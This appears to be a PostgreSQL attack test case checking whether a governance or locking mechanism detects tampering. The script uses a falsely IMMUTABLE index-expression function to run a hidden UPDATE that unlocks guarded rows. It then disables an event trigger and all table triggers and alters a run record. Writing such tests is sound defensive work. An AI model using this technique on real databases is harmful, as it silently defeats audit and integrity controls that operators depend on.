-- role: superuser
-- tries: an index on our own table, whose expression is computed while we act as ourselves
-- none: bites
-- guarded: not held
-- locked: held
-- detected: guard_status, content_hash
CREATE FUNCTION public.deed() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  IF current_setting('evil.armed', true) IS DISTINCT FROM 'on' THEN RETURN; END IF;
  PERFORM set_config('evil.armed', 'off', false);
  UPDATE retry_ledger.governed_table SET locked = false WHERE run_table <> 'app.log'::regclass;
EXCEPTION WHEN OTHERS THEN RAISE WARNING '%', SQLERRM;
END $$;
CREATE FUNCTION public.lie(text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS 'BEGIN PERFORM public.deed(); RETURN $1; END';
CREATE INDEX mine ON retry_ledger.governed_table (public.lie(release_reason));
SET evil.armed = 'on';
SELECT retry_ledger.release_governance('app.log', 'x');
\c
ALTER EVENT TRIGGER retry_ledger_ddl_end DISABLE;
ALTER TABLE app.runs DISABLE TRIGGER ALL;
UPDATE app.runs SET error = 'x' WHERE id = 2;
